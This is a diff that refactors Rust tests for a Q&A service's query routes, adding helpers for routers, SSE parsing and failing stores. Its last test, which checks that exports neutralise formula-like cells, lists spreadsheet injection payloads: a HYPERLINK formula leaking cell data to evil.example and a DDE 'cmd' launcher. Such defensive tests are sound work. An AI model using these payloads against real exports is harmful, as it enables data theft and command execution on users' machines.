@@ -8,10 +8,10 @@ use axum::body::Body;
 use axum::http::{header, HeaderMap, Request, StatusCode};
 use axum::Router;
 use http_body_util::BodyExt;
+use http_edge::ClientAddr;
 use ledger::ports::{EventRow, EventStore, LedgerStore, ProjectionReader, StoreError, StoreResult};
 use ledger::secret::hash_secret;
 use ledger::{Asked, Body as RecordBody, EventId, QuestionId, Record, RecordId, VoterId};
-use http_edge::ClientAddr;
 use ledger_sqlite::{Durability, Options, SqliteStore};
 use query::{LiveHub, QueryConfig, QueryState};
 use serde_json::{json, Value};
@@ -49,6 +49,13 @@ async fn app() -> App {
     app_with(QueryConfig { guest_max_age_s: 2, host_max_age_s: 1, ..QueryConfig::default() }).await
 }
 
+/// [`app`] and a new event in it.
+async fn app_and_event() -> (App, EventId) {
+    let mut app = app().await;
+    let event = app.event().await;
+    (app, event)
+}
+
 async fn app_with(config: QueryConfig) -> App {
     let dir = tempfile::tempdir().unwrap();
     let store = SqliteStore::open(
@@ -57,18 +64,22 @@ async fn app_with(config: QueryConfig) -> App {
     )
     .unwrap();
     let hub = LiveHub::new();
-    let router = query::router(QueryState {
-        events: store.clone() as Arc<dyn EventStore>,
-        projection: store.clone() as Arc<dyn ProjectionReader>,
-        config,
-        live: Some(hub.clone()),
-        metrics: None,
-        health: None,
-    });
+    let router = query::router(QueryState { config, live: Some(hub.clone()), ..bare_state(store.clone(), store.clone()) });
     App { router, store, hub, ids: ulid::Generator::new(), _dir: dir }
 }
 
+/// The state of a router over these stores with the default configuration and nothing
+/// else: no live hub, no metrics, no health watch.
+fn bare_state(events: Arc<dyn EventStore>, projection: Arc<dyn ProjectionReader>) -> QueryState {
+    QueryState { events, projection, config: QueryConfig::default(), live: None, metrics: None, health: None }
+}
+
 impl App {
+    /// The router's response to a GET of `uri`, its body not read (a live stream's is open).
+    async fn open(&self, uri: &str) -> axum::response::Response {
+        self.router.clone().oneshot(Request::get(uri).body(Body::empty()).unwrap()).await.unwrap()
+    }
+
     async fn get(&self, uri: &str) -> Reply {
         self.get_with(Request::get(uri).body(Body::empty()).unwrap()).await
     }
@@ -134,8 +145,7 @@ impl App {
 
 #[tokio::test]
 async fn an_event_exists_or_is_404_or_400() {
-    let mut app = app().await;
-    let event = app.event().await;
+    let (app, event) = app_and_event().await;
     let found = app.get(&format!("/api/event/{event}")).await;
     assert_eq!((found.status, found.json()), (StatusCode::OK, json!({})));
     let missing = app.get(&format!("/api/event/{}", EventId::from_u128(1))).await;
@@ -147,8 +157,7 @@ async fn an_event_exists_or_is_404_or_400() {
 
 #[tokio::test]
 async fn lists_are_ranked_and_guests_do_not_see_hidden_questions() {
-    let mut app = app().await;
-    let event = app.event().await;
+    let (mut app, event) = app_and_event().await;
     let few = app.ask(event, "few votes here", None).await;
     let many = app.ask(event, "many votes here", None).await;
     let hidden = app.ask(event, "a hidden question", None).await;
@@ -191,8 +200,7 @@ async fn lists_are_ranked_and_guests_do_not_see_hidden_questions() {
 
 #[tokio::test]
 async fn lists_carry_an_etag_that_answers_304_until_the_event_changes() {
-    let mut app = app().await;
-    let event = app.event().await;
+    let (mut app, event) = app_and_event().await;
     let question = app.ask(event, "cache me please", None).await;
     let uri = format!("/api/event/{event}/questions");
     let first = app.get(&uri).await;
@@ -218,14 +226,7 @@ async fn lists_carry_an_etag_that_answers_304_until_the_event_changes() {
 #[tokio::test]
 async fn without_a_hub_a_cached_list_is_served_for_at_most_a_second() {
     let mut app = app().await;
-    app.router = query::router(QueryState {
-        events: app.store.clone() as Arc<dyn EventStore>,
-        projection: app.store.clone() as Arc<dyn ProjectionReader>,
-        config: QueryConfig::default(),
-        live: None,
-        metrics: None,
-        health: None,
-    });
+    app.router = query::router(bare_state(app.store.clone(), app.store.clone()));
     let event = app.event().await;
     let question = app.ask(event, "eventually consistent?", None).await;
     let uri = format!("/api/event/{event}/questions");
@@ -240,14 +241,12 @@ async fn without_a_hub_a_cached_list_is_served_for_at_most_a_second() {
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
     // Without a hub there are no live routes.
-    let live = Request::get(format!("/api/live/{event}")).body(Body::empty()).unwrap();
-    assert_eq!(app.router.clone().oneshot(live).await.unwrap().status(), StatusCode::NOT_FOUND);
+    assert_eq!(app.open(&format!("/api/live/{event}")).await.status(), StatusCode::NOT_FOUND);
 }
 
 #[tokio::test]
 async fn question_texts_are_immutable_and_cached_only_when_all_are_found() {
-    let mut app = app().await;
-    let event = app.event().await;
+    let (mut app, event) = app_and_event().await;
     let a = app.ask(event, "first question text", Some("Ada")).await;
     let b = app.ask(event, "second question text", None).await;
 
@@ -280,8 +279,7 @@ async fn question_texts_are_immutable_and_cached_only_when_all_are_found() {
 
 #[tokio::test]
 async fn exports_every_question_in_three_formats_to_the_host_only() {
-    let mut app = app().await;
-    let event = app.event().await;
+    let (mut app, event) = app_and_event().await;
     let a = app.ask(event, "Commas, \"quotes\" | pipes\nand lines", Some("Ada")).await;
     let b = app.ask(event, "hidden but exported", None).await;
     app.moderate(event, b, RecordBody::Hidden { on: true }).await;
@@ -334,14 +332,20 @@ async fn exports_every_question_in_three_formats_to_the_host_only() {
     assert_eq!(String::from_utf8(csv_empty.bytes.to_vec()).unwrap().lines().count(), 1, "just the header");
 }
 
+/// The JSON of one SSE message's `data:` lines (`None` for a message without any, such as a
+/// keep-alive comment).
+fn sse_data(message: &str) -> Option<Value> {
+    let data: Vec<&str> = message.lines().filter_map(|l| l.strip_prefix("data: ")).collect();
+    (!data.is_empty()).then(|| serde_json::from_str(&data.join("\n")).unwrap())
+}
+
 /// Reads SSE `data:` payloads from a streaming body until `count` arrived.
 async fn next_data(body: &mut Body, pending: &mut String) -> Value {
     loop {
         if let Some(end) = pending.find("\n\n") {
             let message: String = pending.drain(..end + 2).collect();
-            let data: Vec<&str> = message.lines().filter_map(|l| l.strip_prefix("data: ")).collect();
-            if !data.is_empty() {
-                return serde_json::from_str(&data.join("\n")).unwrap();
+            if let Some(data) = sse_data(&message) {
+                return data;
             }
             continue;
         }
@@ -358,15 +362,9 @@ async fn next_data(body: &mut Body, pending: &mut String) -> Value {
 
 #[tokio::test]
 async fn live_streams_push_the_list_on_connect_and_after_each_burst() {
-    let mut app = app().await;
-    let event = app.event().await;
+    let (mut app, event) = app_and_event().await;
     let question = app.ask(event, "live question here", None).await;
-    let response = app
-        .router
-        .clone()
-        .oneshot(Request::get(format!("/api/live/{event}")).body(Body::empty()).unwrap())
-        .await
-        .unwrap();
+    let response = app.open(&format!("/api/live/{event}")).await;
     assert_eq!(response.status(), StatusCode::OK);
     assert_eq!(response.headers()[header::CONTENT_TYPE], "text/event-stream");
     let mut body = response.into_body();
@@ -387,12 +385,7 @@ async fn live_streams_push_the_list_on_connect_and_after_each_burst() {
     assert_eq!(next_data(&mut body, &mut pending).await, json!([]));
 
     // The host stream needs the secret and shows hidden questions.
-    let host = app
-        .router
-        .clone()
-        .oneshot(Request::get(format!("/api/live/{event}/{SECRET}")).body(Body::empty()).unwrap())
-        .await
-        .unwrap();
+    let host = app.open(&format!("/api/live/{event}/{SECRET}")).await;
     let mut host_body = host.into_body();
     let mut host_pending = String::new();
     assert_eq!(next_data(&mut host_body, &mut host_pending).await[0]["hidden"], true);
@@ -403,12 +396,7 @@ async fn live_streams_push_the_list_on_connect_and_after_each_burst() {
 
 /// Opens the guest stream of `event` and reads its first push (the list on connect).
 async fn open_live(app: &App, event: EventId) -> (Body, Value) {
-    let response = app
-        .router
-        .clone()
-        .oneshot(Request::get(format!("/api/live/{event}")).body(Body::empty()).unwrap())
-        .await
-        .unwrap();
+    let response = app.open(&format!("/api/live/{event}")).await;
     assert_eq!(response.status(), StatusCode::OK);
     let mut body = response.into_body();
     let mut pending = String::new();
@@ -430,9 +418,8 @@ async fn read_until(body: &mut Body, deadline: Instant) -> (String, Vec<(Instant
         while let Some(end) = raw[parsed_to..].find("\n\n") {
             let message = &raw[parsed_to..parsed_to + end];
             parsed_to += end + 2;
-            let data: Vec<&str> = message.lines().filter_map(|l| l.strip_prefix("data: ")).collect();
-            if !data.is_empty() {
-                pushes.push((arrived, serde_json::from_str(&data.join("\n")).unwrap()));
+            if let Some(data) = sse_data(message) {
+                pushes.push((arrived, data));
             }
         }
     }
@@ -486,8 +473,7 @@ async fn a_live_stream_stays_silent_while_other_events_change() {
 
 #[tokio::test]
 async fn a_burst_of_changes_is_coalesced_into_pushes_at_most_every_100_ms() {
-    let mut app = app().await;
-    let event = app.event().await;
+    let (mut app, event) = app_and_event().await;
     let question = app.ask(event, "a popular question here", None).await;
     let (mut body, _) = open_live(&app, event).await;
 
@@ -705,14 +691,8 @@ async fn health_reads_the_store_and_metrics_need_a_recorder() {
 
     let recorder = metrics_exporter_prometheus::PrometheusBuilder::new().build_recorder();
     let handle = recorder.handle();
-    let with_metrics = query::router(QueryState {
-        events: app.store.clone() as Arc<dyn EventStore>,
-        projection: app.store.clone() as Arc<dyn ProjectionReader>,
-        config: QueryConfig::default(),
-        live: None,
-        metrics: Some(handle),
-        health: None,
-    });
+    let with_metrics =
+        query::router(QueryState { metrics: Some(handle), ..bare_state(app.store.clone(), app.store.clone()) });
     // Record through this recorder only, without touching the process-wide one.
     metrics::with_local_recorder(&recorder, || metrics::counter!("votes_total").increment(3));
     let response = with_metrics.oneshot(Request::get("/metrics").body(Body::empty()).unwrap()).await.unwrap();
@@ -724,41 +704,37 @@ async fn health_reads_the_store_and_metrics_need_a_recorder() {
 /// A store that is down: every call fails as a real outage would.
 struct Down;
 
+fn down<T>() -> StoreResult<T> {
+    Err(StoreError::Unavailable("down".into()))
+}
+
 #[async_trait::async_trait]
 impl EventStore for Down {
     async fn create_event(&self, _: &EventRow) -> StoreResult<()> {
-        Err(StoreError::Unavailable("down".into()))
+        down()
     }
     async fn event(&self, _: EventId) -> StoreResult<Option<EventRow>> {
-        Err(StoreError::Unavailable("down".into()))
+        down()
     }
 }
 
 #[async_trait::async_trait]
 impl ProjectionReader for Down {
     async fn event_questions(&self, _: EventId) -> StoreResult<Vec<ledger::QuestionCounters>> {
-        Err(StoreError::Unavailable("down".into()))
+        down()
     }
     async fn question(&self, _: QuestionId) -> StoreResult<Option<ledger::QuestionCounters>> {
-        Err(StoreError::Unavailable("down".into()))
+        down()
     }
     async fn question_texts(&self, _: &[QuestionId]) -> StoreResult<Vec<ledger::ports::QuestionText>> {
-        Err(StoreError::Unavailable("down".into()))
+        down()
     }
 }
 
 #[tokio::test]
 async fn a_store_outage_is_a_503_that_nobody_caches() {
-    let mut app = app().await;
-    let event = app.event().await;
-    app.router = query::router(QueryState {
-        events: Arc::new(Down),
-        projection: Arc::new(Down),
-        config: QueryConfig::default(),
-        live: None,
-        metrics: None,
-        health: None,
-    });
+    let (mut app, event) = app_and_event().await;
+    app.router = query::router(bare_state(Arc::new(Down), Arc::new(Down)));
     for uri in [
         "/healthz".to_owned(),
         format!("/api/event/{event}"),
@@ -780,7 +756,7 @@ async fn the_routes_listed_are_the_routes_served() {
         assert_eq!(*method, "GET");
         // Malformed parameters: a served route answers with its own JSON error (or 200).
         let uri = path.replace('{', "x").replace('}', "");
-        let response = app.router.clone().oneshot(Request::get(&uri).body(Body::empty()).unwrap()).await.unwrap();
+        let response = app.open(&uri).await;
         let status = response.status();
         let bytes = response.into_body().collect().await.unwrap().to_bytes();
         assert!(!bytes.is_empty() || status == StatusCode::OK, "{path} is not served ({status})");
@@ -871,14 +847,7 @@ impl EventStore for Stuck {
 
 #[tokio::test(start_paused = true)]
 async fn a_stuck_store_is_a_503_after_the_timeout() {
-    let router = query::router(QueryState {
-        events: Arc::new(Stuck),
-        projection: Arc::new(Down),
-        config: QueryConfig::default(),
-        live: None,
-        metrics: None,
-        health: None,
-    });
+    let router = query::router(bare_state(Arc::new(Stuck), Arc::new(Down)));
     let started = tokio::time::Instant::now();
     let response = router.oneshot(Request::get("/healthz").body(Body::empty()).unwrap()).await.unwrap();
     assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
@@ -894,8 +863,7 @@ async fn a_stuck_store_is_a_503_after_the_timeout() {
 /// records, so the tab and carriage return the ask route trims still reach the export.
 #[tokio::test]
 async fn exports_neutralise_cells_that_start_like_a_formula() {
-    let mut app = app().await;
-    let event = app.event().await;
+    let (mut app, event) = app_and_event().await;
     let cases = [
         ('=', "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")"),
         ('+', "+1+cmd|' /C calc'!A0"),
